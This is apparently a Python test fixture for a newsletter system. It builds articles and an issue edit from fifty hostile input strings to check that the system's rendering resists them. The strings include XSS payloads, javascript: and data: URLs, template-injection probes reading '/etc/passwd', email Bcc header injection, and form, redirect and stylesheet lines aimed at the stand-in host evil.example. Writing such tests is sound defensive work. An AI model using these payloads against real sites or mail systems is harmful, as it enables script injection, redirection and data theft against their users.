"""Fifty ways in which a stranger's article may try to harm, and an issue that is full of them."""

from __future__ import annotations

from dataclasses import replace

from newsletter.articles.article import Article, Image, Tag
from newsletter.issues.blocks import Block, BlockKind
from newsletter.issues.edits import Add, PutBlock, Say
from newsletter.pipeline.edit import EditRequest, edit
from newsletter.site.site import Site
from tests.acceptance.site import NOW
from tests.factories.issues import make_article

EVIL = "https://evil.example"

HOSTILE = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "'><img src=x onerror=window.pwned=1>",
    '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<form action="{EVIL}"><input name=q><button>Go</button></form>',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    f"<style>@import '{EVIL}/x.css'; * {{ display: none }}</style>",
    f'<p style="background:url({EVIL}/x.png)">styled</p>',
    f'<iframe src="{EVIL}"></iframe>',
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f'<object data="{EVIL}/x"></object>',
    f'<embed src="{EVIL}/x">',
    "<a href='javascript:window.pwned=1'>click</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<input autofocus onfocus=window.pwned=1>",
    "<textarea autofocus onfocus=window.pwned=1></textarea></textarea>",
    "</textarea><script>window.pwned=1</script>",
    "</title><script>window.pwned=1</script>",
    "</option></select><script>window.pwned=1</script>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<template><script>window.pwned=1</script></template>",
    "<mj-raw><script>window.pwned=1</script></mj-raw>",
    "</mj-text><mj-text>injected",
    "<mj-include path='/etc/passwd' />",
    "{{ config }} {{ 7 * 7 }} {% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "slot-aaaaaaaaaaaaaaaa-unsubscribe-slot",
    "slot-0123456789abcdef-name-slot",
    "\u202etxt.exe\u202c \u2066hidden\u2069",
    "\u0000\u0008\u001f\ufffe nothing",
    "=?utf-8?q?x=0d=0aBcc:_evil@evil.example?=",
    "line one\r\nBcc: evil@evil.example",
    "<!--[if mso]><script>window.pwned=1</script><![endif]-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<hx-on hx-get='/audit' hx-trigger='load'>",
    "<div hx-on:load='window.pwned=1' data-hx-get='/sign-out' hx-trigger=load>x</div>",
    "<x onclick=window.pwned=1 style=position:fixed;inset:0>x",
)


def hostile_article(number: int, words: str) -> Article:
    """An article that says so in every field that a stranger fills."""
    schemes = ("javascript:window.pwned=1", "data:text/html,x", f"{EVIL}/{number}")
    return replace(
        make_article(number),
        key=f"hostile-{number}",
        url=schemes[number % 3],
        title=f"{words} {number}",
        summary=words,
        source=words,
        author=words,
        body_html=words,
        body_text=words,
        tags=(Tag(slug="hostile", label=words),),
        image=Image(url=f"javascript:{number}", alt=words) if number % 2 else None,
        published=NOW,
    )


def besiege(site: Site) -> None:
    """Put all of them into weekly/1 as they are, past every sanitiser."""
    first = site.settings.newsletters["weekly"].sections[0].title
    articles = [hostile_article(n, words) for n, words in enumerate(HOSTILE)]
    edit(
        site,
        EditRequest(newsletter="weekly", number=1, editor=HOSTILE[5], seen_version=99),
        [
            *(Add(article=article, section=first) for article in articles),
            Say(name="intro", text="\n\n".join(HOSTILE)),
            Say(name="subject", text=HOSTILE[1]),
            PutBlock(block=Block(id="b", kind=BlockKind.JOBS, title=HOSTILE[2], text=HOSTILE[3])),
        ],
        now=NOW,
    )
